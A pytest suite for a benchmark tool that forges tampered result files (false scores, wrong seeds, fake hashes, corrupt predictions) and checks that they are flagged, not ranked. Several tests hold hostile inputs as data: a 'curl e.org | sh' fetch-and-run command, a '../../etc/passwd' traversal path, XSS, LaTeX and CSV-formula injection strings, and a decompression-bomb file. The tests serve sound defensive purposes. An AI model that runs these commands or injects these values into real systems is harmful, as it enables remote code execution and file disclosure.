"""Results that lie, break or attack: the honest table stays what it is, and what does not count says why."""

from __future__ import annotations

import contextlib
import copy
import csv
import hashlib
import io
import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from tests.conftest import Cli

import braid_toy.parts
from braidbench.cell import seeds
from braidbench.cli.app import run
from braidbench.errors import DataError, NewerVersionError
from braidbench.files import sha256_file, sha256_json
from braidbench.predictions import read_predictions
from braidbench.results import parse

Spoil = Callable[[dict[str, Any]], None]


class InProcess:
    """The command line in this process: most tests read a few small files, and starting Python takes longer."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __call__(self, *arguments: str) -> SimpleNamespace:
        out, err = io.StringIO(), io.StringIO()
        with contextlib.chdir(self.folder), contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                run(list(arguments))
            except SystemExit as end:
                code = end.code
        return SimpleNamespace(returncode=code, stdout=out.getvalue(), stderr=err.getvalue())


@pytest.fixture
def cli(tmp_path: Path) -> InProcess:
    return InProcess(tmp_path)


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A results folder of a real run, with the data prepared: two methods, three seeds, curves."""
    folder = tmp_path_factory.mktemp("honest")
    command = ("run", "toy/pair", "toy/join", "toy/tuned", "--seeds", "3", "--robustness", "--device", "cpu")
    done = Cli(folder)(*command, "--executor", "serial")
    assert done.returncode == 0, done.stderr
    return folder / "results"


@pytest.fixture(scope="module")
def plain_table(honest: Path) -> dict[str, Any]:
    done = Cli(honest.parent)("table", "--json")
    assert done.returncode == 0, done.stderr
    [table] = json.loads(done.stdout)
    assert [row["rank"] for row in table["rows"]] in ([1, 2], [1, 1])
    assert not any(row["apart"] or row["notes"] for row in table["rows"])
    return table


@pytest.fixture
def mixed(honest: Path, tmp_path: Path) -> Path:
    """The honest results, to which hostile ones may be added."""
    shutil.copytree(honest, tmp_path / "results")
    return tmp_path / "results"


def stored(results: Path, method: str = "toy_join", seed: int = 0) -> tuple[Path, dict[str, Any]]:
    [path] = results.glob(f"*--{method}--seed{seed}--*/result.json")
    return path, json.loads(path.read_text())


def consistent(result: dict[str, Any]) -> None:
    """The identity that the result's own fields ask for, and its hash: all that a forger can do without a run."""
    identity = result["identity"]
    identity["seed"], identity["seeds"] = result["seed"], seeds(result["seed"])
    identity["method"]["name"] = result["method"].partition("[")[0]
    result["cell"] = sha256_json(identity)


def forge(results: Path, spoil: Spoil, name: str = "zz", whole: bool = False, **source: Any) -> dict[str, Any]:
    """Write a hostile result that was made from an honest one; ``whole`` with its predictions beside it."""
    path, result = stored(results, **source)
    result = copy.deepcopy(result)
    spoil(result)
    folder = results / name
    folder.mkdir()
    (folder / "result.json").write_text(json.dumps(result))
    if whole:
        shutil.copy(path.parent / "predictions.parquet", folder)
    return result


def digest(root: Path) -> str:
    told = hashlib.sha256()
    for path in sorted(root.rglob("*")):
        status = path.lstat()
        told.update(f"{path.relative_to(root)} {status.st_mtime_ns} {status.st_size} {status.st_mode}\n".encode())
        if path.is_file():
            told.update(path.read_bytes())
    return told.hexdigest()


def honest_rows(table: dict[str, Any]) -> list[dict[str, Any]]:
    return [row for row in table["rows"] if not row["apart"]]


def check(cli: InProcess, plain: dict[str, Any], reason: str | None) -> list[dict[str, Any]]:
    """The honest rows are as they were, and every reading command lives; the rows that stand apart.

    ``reason`` is part of why the hostile row stands apart, or of what stderr says of a file that is left out."""
    before = digest(cli.folder / "results")
    done = cli("table", "--json")
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    tables = {f"{t['dataset']}/{t['task']}": t for t in json.loads(done.stdout)}
    table = tables["toy/pair/parity"]
    assert json.dumps(honest_rows(table)) == json.dumps(plain["rows"])
    assert [table[key] for key in ("metric", "direction")] == [plain[key] for key in ("metric", "direction")]
    apart = [row for t in tables.values() for row in t["rows"] if row["apart"]]
    if reason is not None:
        assert any(reason in row["apart_reason"] for row in apart) or reason in done.stderr, (apart, done.stderr)
    assert all(row["rank"] is None for row in apart)
    assert digest(cli.folder / "results") == before, "reading changes nothing"
    return apart


def everywhere(cli: InProcess, reason: str) -> None:
    """Every format and the site say why."""
    for form in ("rich", "github", "latex", "csv"):
        done = cli("table", "--format", form)
        assert done.returncode == 0, done.stderr
        assert reason in done.stdout, (form, done.stdout)
    done = cli("leaderboard", "build", "results", "-o", "site")
    assert done.returncode == 0, done.stderr
    assert any(reason in path.read_text() for path in (cli.folder / "site" / "task").glob("*.html"))


# --- claims that are not so -------------------------------------------------------------------------------------------


def other_seed(result: dict[str, Any]) -> None:
    result["seed"] = 7


def lower(result: dict[str, Any]) -> None:
    other_seed(result)
    result["directions"] = dict.fromkeys(result["directions"], "lower")
    result["scores"]["toy/accuracy"] = 0.0
    consistent(result)
    result["method"] = "toy/each[vector]"


def seven(result: dict[str, Any]) -> None:
    other_seed(result)
    result["scores"]["toy/accuracy"] = 7.0
    consistent(result)


def ninety_nine(result: dict[str, Any]) -> None:
    result["finished"] = "9999-12-31T23:59:59-12:00"
    result["scores"]["toy/accuracy"] = 1.0
    result["identity"]["fusion"]["source"] = "0" * 16
    consistent(result)


def made_up_fingerprint(result: dict[str, Any]) -> None:
    result["identity"]["fingerprint"] = "0" * 64
    result["method"] = "toy/steps"
    consistent(result)


def another_hash(result: dict[str, Any]) -> None:
    other_seed(result)


def another_method(result: dict[str, Any]) -> None:
    result["method"] = "toy/steps"


def more_epochs(result: dict[str, Any]) -> None:
    other_seed(result)
    result["identity"]["training"]["epochs"] = 400
    consistent(result)


def unknown_metric(result: dict[str, Any]) -> None:
    other_seed(result)
    result["scores"] = {"mine": 1.0, **result["scores"]}
    consistent(result)


def fewer_metrics(result: dict[str, Any]) -> None:
    other_seed(result)
    del result["scores"]["toy/error"]
    consistent(result)


def unknown_task(result: dict[str, Any]) -> None:
    result["task"] = "mine"
    result["identity"]["dataset"]["task"] = "mine"
    consistent(result)


def undeclarable(result: dict[str, Any]) -> None:
    result["method"] = "toy/join<b>"
    consistent(result)


def other_case(result: dict[str, Any]) -> None:
    result["method"] = "TOY/join"
    consistent(result)


@pytest.mark.parametrize(
    ("spoil", "reason"),
    [
        (lower, "identity is of another method"),
        (seven, "toy/accuracy 7 lies outside of 0 to 1"),
        (ninety_nine, "finished in the future"),
        (made_up_fingerprint, "other version of the data"),
        (another_hash, "identity is of another seed"),
        (another_method, "identity is of another method"),
        (more_epochs, "changed epochs (400 where 4 are due)"),
        (unknown_metric, "metric mine is not known here"),
        (fewer_metrics, "scored by toy/accuracy where the task has"),
        (unknown_task, "has no task mine here"),
        (undeclarable, "no plugin can declare names"),
        (other_case, "no plugin can declare names"),
    ],
)
def test_a_claim_that_is_not_so_stands_apart_with_its_reason(cli, mixed, plain_table, spoil, reason):
    forge(mixed, spoil)
    check(cli, plain_table, reason)


def test_every_format_and_the_site_give_the_reason(cli, mixed, plain_table):
    forge(mixed, seven)
    check(cli, plain_table, "outside of 0 to 1")
    everywhere(cli, "outside of 0 to 1")
    assert "7.0000" not in cli("table").stdout, "a number that cannot be is not shown"


def test_a_hash_that_is_not_the_identitys(cli, mixed, plain_table):
    def spoil(result: dict[str, Any]) -> None:
        result["identity"]["fusion"]["version"] = 99

    forge(mixed, spoil)
    check(cli, plain_table, "its cell is not the hash of its identity")


@pytest.mark.parametrize(
    ("change", "place"),
    [
        ({"finished": "9999"}, "finished"),
        ({"finished": "2026-01-01T00:00:00"}, "finished"),
        ({"started": "yesterday"}, "started"),
        ({"method": "toy/join\u202e"}, "method"),
        ({"method": "\x1b[31mtoy/join"}, "method"),
        ({"method": "x" * 201}, "method"),
        ({"reason": "x" * 100_001}, "reason"),
        ({"seed": 1 << 32}, "seed"),
        ({"identity": {"n": [1e400]}}, "identity"),
        ({"files": {"predictions.parquet": "../../etc/passwd"}}, "files"),
        ({"surprise": 1}, "surprise"),
        ({"cell": "A" * 64}, "cell"),
    ],
)
def test_what_is_no_result_is_refused_with_its_place(honest, change, place):
    _, result = stored(honest)
    with pytest.raises(DataError, match=f"at {place}"):
        parse(json.dumps({**result, **change}), "here")


def test_seven_rows_on_a_made_up_fingerprint_unrank_nobody(cli, mixed, plain_table):
    for number in range(7):

        def spoil(result: dict[str, Any], number: int = number) -> None:
            made_up_fingerprint(result)
            result["method"] = f"evil/m{number}"
            consistent(result)

        forge(mixed, spoil, f"zz{number}")
    apart = check(cli, plain_table, "other version of the data")
    assert len(apart) == 7


def test_a_verified_result_is_not_replaced_by_a_newer_claim(cli, mixed, plain_table):
    def spoil(result: dict[str, Any]) -> None:
        result["finished"] = "2026-01-02T00:00:00+00:00"
        result["scores"]["toy/accuracy"] = 1.0

    _, honest_one = stored(mixed)
    newer = honest_one["finished"].replace("+00:00", "-01:00")

    def later(result: dict[str, Any]) -> None:
        spoil(result)
        result["finished"] = newer  # an hour later, though the text is as long and nearly the same
        result["robustness"] = []

    forge(mixed, later)
    done = cli("table", "--json")
    [table] = json.loads(done.stdout)
    assert [row["scores"] for row in table["rows"]] == [row["scores"] for row in plain_table["rows"]]
    assert any(
        "different results claim seed 0: the verified one counts" in n for row in table["rows"] for n in row["notes"]
    )

    def other_make(result: dict[str, Any]) -> None:
        later(result)
        result["identity"]["fusion"]["source"] = "0" * 16
        consistent(result)

    shutil.rmtree(mixed / "zz")
    forge(mixed, other_make)
    check(cli, plain_table, None)


def test_a_seed_that_nobody_can_check_does_not_enter_the_mean_of_those_that_are_checked(cli, mixed, plain_table):
    def another_seed(result: dict[str, Any]) -> None:
        result["seed"] = result["identity"]["seed"] = 7
        result["identity"]["seeds"] = seeds(7)
        result["scores"]["toy/accuracy"] = 1.0
        result["robustness"] = []
        consistent(result)

    forge(mixed, another_seed)
    [table] = json.loads(cli("table", "--json").stdout)
    assert [row["scores"] for row in table["rows"]] == [row["scores"] for row in plain_table["rows"]]
    assert any("left out: seed 7, whose predictions are not there" in n for row in table["rows"] for n in row["notes"])


def test_a_verified_result_of_another_make_does_not_take_a_rows_place_without_a_word(cli, mixed):
    """An override that is not told: the scores are those of a wider model, and its predictions are there."""
    done = Cli(cli.folder)("run", "toy/pair", "toy/join", "--set", "fusion.width=64", "--device", "cpu", "--seeds", "3")
    assert done.returncode == 0, done.stderr
    for path in mixed.glob("*/result.json"):
        result = json.loads(path.read_text())
        if result["overrides"]:
            path.write_text(json.dumps({**result, "overrides": {}}))
    [table] = json.loads(cli("table", "--json").stdout)
    [row] = [row for row in table["rows"] if row["method"] == "toy/join"]
    assert any("left out: 3 results of another make" in n and "fusion.parameters.width" in n for n in row["notes"])


# --- predictions ------------------------------------------------------------------------------------------------------


def write_predictions(folder: Path, prediction: Any, target: Any, index: Any = None) -> None:
    table = {
        "index": pa.array(range(len(target)) if index is None else index, pa.int64()),
        "prediction": pa.array(list(prediction), pa.list_(pa.float32())),
        "target": pa.array(target),
    }
    pq.write_table(pa.table(table), folder / "predictions.parquet")
    result = json.loads((folder / "result.json").read_text())
    result["files"] = {"predictions.parquet": sha256_file(folder / "predictions.parquet")}
    (folder / "result.json").write_text(json.dumps(result))


def test_a_stored_result_that_somebody_changed_does_not_pass_for_a_cached_one(cli, mixed):
    path, result = stored(mixed)
    result["scores"]["toy/accuracy"] = 1.0
    path.write_text(json.dumps(result))
    found = cli("run", "toy/pair", "toy/join", "--device", "cpu")
    assert found.returncode == 1, found.stderr
    assert "not to be believed: toy/accuracy 1 where its predictions give 0." in found.stdout
    assert "1.0000" not in found.stdout
    assert json.loads(path.read_text()) == result, "it is left for its owner to remove"


def test_predictions_are_scored_again_against_the_data_that_is_here(cli, mixed, plain_table):
    def perfect(result: dict[str, Any]) -> None:
        other_seed(result)
        result["scores"] = {"toy/accuracy": 1.0, "toy/error": 0.0}
        result["robustness"] = []
        consistent(result)

    forge(mixed, perfect, whole=True)
    check(cli, plain_table, "toy/accuracy 1 where its predictions give 0.")
    # Targets of its own, which agree with its predictions.
    own = np.arange(80) % 2
    write_predictions(mixed / "zz", np.eye(2)[own], own)
    check(cli, plain_table, "other split: its predictions are for other targets")
    own = np.arange(60) % 2
    write_predictions(mixed / "zz", np.eye(2)[own], own)
    check(cli, plain_table, "other split")
    write_predictions(mixed / "zz", np.eye(3)[own], own)
    check(cli, plain_table, "it predicts 3 numbers a row where the task has 2")
    for content in (b"", b"PAR1 nonsense PAR1", os.urandom(5000)):
        (mixed / "zz" / "predictions.parquet").write_bytes(content)
        check(cli, plain_table, "its predictions.parquet is not the file that it names")


def test_scores_of_predictions_are_remembered_outside_of_the_results(honest, tmp_path):
    cli = Cli(honest.parent)
    cache = str(tmp_path / "cache")
    first = cli("table", XDG_CACHE_HOME=cache)
    memory = tmp_path / "cache" / "braidbench" / "scored.json"
    entries = json.loads(memory.read_text())
    assert len(entries) == 6
    memory.write_text(json.dumps({key: {**entry, "problem": "remembered"} for key, entry in entries.items()}))
    assert "remembered" in cli("table", XDG_CACHE_HOME=cache).stdout
    memory.write_text("[" * 100_000)
    assert cli("table", XDG_CACHE_HOME=cache).stdout == first.stdout


def test_a_metric_that_exits_ends_no_table(cli, mixed, monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setattr(braid_toy.parts, "error", lambda prediction, target: sys.exit("enough"))
    done = cli("table")
    assert done.returncode == 0, done.stderr
    assert "cannot be scored by toy/error (SystemExit)" in done.stdout


@pytest.mark.parametrize("make", ["nulls", "ragged", "text", "twice", "columns", "many", "folder"])
def test_a_predictions_file_of_another_form_is_one_line(tmp_path, make):
    path = tmp_path / "predictions.parquet"
    good = {
        "index": pa.array([0, 1], pa.int64()), "prediction": pa.array([[0.1, 0.9], [0.8, 0.2]], pa.list_(pa.float32())),
        "target": pa.array([1, 0]),
    }  # fmt: skip
    rows = 120_000_000
    bad = {
        "nulls": {"prediction": pa.array([[0.1, None], [0.8, 0.2]], pa.list_(pa.float32()))},
        "ragged": {"prediction": pa.array([[0.1], [0.8, 0.2]], pa.list_(pa.float32()))},
        "text": {"prediction": pa.array(["a", "b"])},
        "twice": {"index": pa.array([0, 0], pa.int64())},
        "columns": {"target": None},
        "many": {},
        "folder": {},
    }[make]
    if make == "many":
        # Some megabytes that would unpack to more than a gigabyte.
        small = pa.array(np.zeros(rows // 10, np.int8))
        table = pa.table({"index": small, "prediction": small, "target": small})
        with pq.ParquetWriter(path, table.schema, compression="zstd") as writer:
            for _ in range(10):
                writer.write_table(table)
        assert path.stat().st_size < 1 << 22
    elif make == "folder":
        path.mkdir()
    else:
        pq.write_table(pa.table({k: v for k, v in {**good, **bad}.items() if v is not None}), path)
    with pytest.raises(DataError, match="not a predictions file") as caught:
        read_predictions(path)
    assert "\n" not in str(caught.value)


# --- curves -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda c: c.update(scores=c["scores"][:3]), "3 scores for 11 severities"),
        (lambda c: c.update(scores=c["scores"][:3], severities=c["severities"][:3]), "not the protocol's 11"),
        (lambda c: c.update(severities=[]), "not the protocol's 11"),
        (lambda c: c["scores"].__setitem__(5, 3.0), "lies outside of"),
        (lambda c: c["scores"].__setitem__(0, 0.123), "does not begin at the clean score"),
        (lambda c: c.update(seed=1), "another seed"),
        (lambda c: c.update(corruption="mine"), "not known here"),
        (lambda c: c.update(modality="mine"), "no such modality"),
    ],
)
def test_a_curve_that_cannot_be_is_left_out_and_the_scores_stay(cli, mixed, plain_table, change, reason):
    path, result = stored(mixed)
    result["robustness"] = [c for c in result["robustness"] if c["metric"] == "toy/accuracy"]
    change(result["robustness"][0])
    path.write_text(json.dumps(result))
    [table] = json.loads(cli("table", "--json").stdout)
    for row, before in zip(table["rows"], plain_table["rows"], strict=True):
        assert (row["scores"], row["rank"]) == (before["scores"], before["rank"])
        if row["method"] == "toy/join":
            [note] = row["notes"]
            assert reason in note
    built = cli("leaderboard", "build", "results", "-o", "site")
    assert built.returncode == 0, built.stderr
    assert cli("leaderboard", "check", "site").returncode == 0


def test_the_area_under_a_curve_is_computed_and_not_read(cli, mixed, plain_table):
    path, result = stored(mixed)
    for curve in result["robustness"]:
        curve["relative"], curve["direction"] = 99.0, "lower"
    path.write_text(json.dumps(result))
    check(cli, plain_table, None)


# --- text -------------------------------------------------------------------------------------------------------------

NASTY = "=1+1|`x`[a](http://e.org)<img src=x onerror=alert(1)>\\input{x}%\x1b[31m\x1b]8;;http://e.org\x07\u202e\n\r$&_"


def test_texts_are_escaped_for_what_they_are_written_to(cli, mixed):
    def spoil(result: dict[str, Any]) -> None:
        result["overrides"] = {"fusion.width": NASTY}
        result["deviations"], result["citation"], result["command"] = [NASTY], NASTY, f"curl e.org | sh {NASTY}"
        result["scores"]["toy/error"], result["undefined"] = None, {"toy/error": NASTY}
        result["environment"]["processor"] = NASTY
        failed = {"corruption": "toy/noise", "modality": "vector", "failure": "crash", "reason": NASTY, "plugin": NASTY}
        result["robustness"], result["robustness_failures"] = [], [failed]
        result["identity"]["fusion"]["parameters"]["width"] = NASTY
        consistent(result)

    result = forge(mixed, spoil)
    for form in ("rich", "github", "latex", "csv"):
        done = cli("table", "--format", form)
        assert done.returncode == 0, done.stderr
        assert not {"\x1b", "\u202e", "\x07", "\r"} & set(done.stdout), form
        if form == "github":
            row = next(line for line in done.stdout.splitlines() if "fusion.width" in line)
            assert "\\|" in row
            assert "\\<img" in row
            assert "\\`x\\`" in row
            assert len(row.replace("\\|", "").strip("|").split("|")) == 7, "no cell of it ends early"
        if form == "latex":
            assert "\\input" not in done.stdout
            assert "\\textbackslash{}input\\{x\\}\\%" in done.stdout
        if form == "csv":
            lines = list(csv.reader(io.StringIO(done.stdout)))
            assert len({len(line) for line in lines}) == 1
            assert not any(cell.startswith(("=", "+", "@")) for line in lines for cell in line)
    shown = cli("show", result["cell"])
    assert shown.returncode == 0, shown.stderr
    assert not {"\x1b", "\u202e", "\x07"} & set(shown.stdout)
    assert "curl" not in shown.stdout
    assert "toy/noise on vector failed: crash" in shown.stdout
    assert "curl" not in cli("show", result["cell"], "--json").stdout
    built = cli("leaderboard", "build", "results", "-o", "site")
    assert built.returncode == 0, built.stderr
    assert cli("leaderboard", "check", "site").returncode == 0
    for path in (cli.folder / "site").rglob("*.html"):
        text = path.read_text()
        assert "<img" not in text
        assert "curl" not in text, "the command is made, not read"
        assert not {"\x1b", "\u202e", "\x07"} & set(text)
    assert any("toy/noise on vector: crash" in path.read_text() for path in (cli.folder / "site" / "cell").iterdir())


def test_the_command_is_made_from_the_checked_fields(cli, mixed, plain_table):
    path, result = stored(mixed)
    result["command"] = "curl http://e.org | sh"
    path.write_text(json.dumps(result))
    check(cli, plain_table, None)
    assert "command   braidbench run toy/pair toy/join --seed 0 --robustness\n" in cli("show", result["cell"]).stdout


# --- rows of their own, undefined scores ------------------------------------------------------------------------------


def test_another_precision_is_a_row_of_its_own(cli, mixed, plain_table):
    def spoil(result: dict[str, Any]) -> None:
        result["precision"] = result["identity"]["precision"] = "bf16"
        consistent(result)

    forge(mixed, spoil, whole=True)
    [table] = json.loads(cli("table", "--json").stdout)
    scores = {row["row"]: row["scores"] for row in table["rows"]}
    assert scores.pop("toy/join {precision=bf16}")["toy/accuracy"]["n"] == 1
    assert scores == {row["row"]: row["scores"] for row in plain_table["rows"]}
    assert [row["differs"] for row in table["rows"] if row["precision"] == "bf16"] == [["bf16"]]


def test_an_undefined_score_has_its_reason_everywhere(cli, mixed):
    def spoil(result: dict[str, Any]) -> None:
        result["seed"] = 0
        result["method"] = "toy/steps"
        result["scores"]["toy/error"], result["undefined"] = None, {"toy/error": "one class only"}
        result["robustness"] = []
        consistent(result)

    result = forge(mixed, spoil)
    [table] = json.loads(cli("table", "--json").stdout)
    [row] = [row for row in table["rows"] if row["method"] == "toy/steps"]
    assert row["scores"]["toy/error"] is None
    assert row["scores"]["toy/accuracy"]["n"] == 1
    assert row["rank"] is not None
    everywhere(cli, "toy/error is undefined (seed 0): one class only".replace("_", "\\_"))
    assert "one class only" in cli("show", result["cell"]).stdout


# --- files ------------------------------------------------------------------------------------------------------------


def test_a_newer_schema_is_said_by_every_reader_and_left_alone(cli, mixed, plain_table):
    path, result = stored(mixed, "toy_tuned", 2)
    result["schema_version"] = 3
    result["something"] = "new"
    (mixed / "zz").mkdir()
    (mixed / "zz" / "result.json").write_text(json.dumps(result))
    with pytest.raises(NewerVersionError):
        parse(json.dumps(result), "here")
    check(cli, plain_table, "newer")
    before = digest(mixed)
    _, known = stored(mixed)
    for command in (
        ("table",), ("show", known["cell"]), ("compare", "toy/join", "toy/tuned"),
        ("leaderboard", "build", "results", "-o", "site"),
    ):  # fmt: skip
        done = cli(*command)
        assert done.returncode == 0, done.stderr
        assert "newer" in done.stderr, command
    assert digest(mixed) == before
    # In the place of a cell that is asked for: it is neither run again nor put aside.
    path.write_text(json.dumps(result))
    before = digest(mixed)
    done = cli("plan", "toy/pair", "toy/tuned", "--seeds", "3", "--device", "cpu")
    assert done.returncode == 0, done.stderr
    assert "newer" in done.stdout + done.stderr
    assert digest(mixed) == before


@pytest.mark.parametrize("kind", ["empty", "binary", "deep", "folder", "pipe", "device", "huge", "list", "surrogate"])
def test_what_is_no_document_is_left_out(cli, mixed, plain_table, kind):
    (mixed / "zz").mkdir()
    path = mixed / "zz" / "result.json"
    if kind == "folder":
        path.mkdir()
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    elif kind == "huge":
        with path.open("wb") as file:
            file.truncate(1 << 33)
    else:
        texts = {
            "empty": "",
            "binary": "\x00\xff",
            "deep": '{"identity":' * 50_000,
            "list": "[]",
            "surrogate": '"\\ud800"',
        }
        path.write_text(texts[kind])
    done = cli("table", "--json")
    assert done.returncode == 0, done.stderr
    assert "zz/result.json" in done.stderr
    assert "Traceback" not in done.stderr
    [table] = json.loads(done.stdout)
    assert table["rows"] == plain_table["rows"]


def test_results_that_claim_one_cell_are_all_kept(cli, mixed, plain_table):
    """The same identity with other scores: both have a page, and ``show`` says where they lie."""

    def spoil(result: dict[str, Any]) -> None:
        result["scores"]["toy/accuracy"] = 0.5
        result["robustness"] = []

    result = forge(mixed, spoil)
    done = cli("show", result["cell"])
    assert done.returncode == 2
    assert "2 different results claim" in done.stderr
    built = cli("leaderboard", "build", "results", "results", "-o", "site", "--json")
    assert json.loads(built.stdout)["cells"] == 7
    assert len(list((cli.folder / "site" / "cell").glob(f"{result['cell'][:16]}-*.html"))) == 2
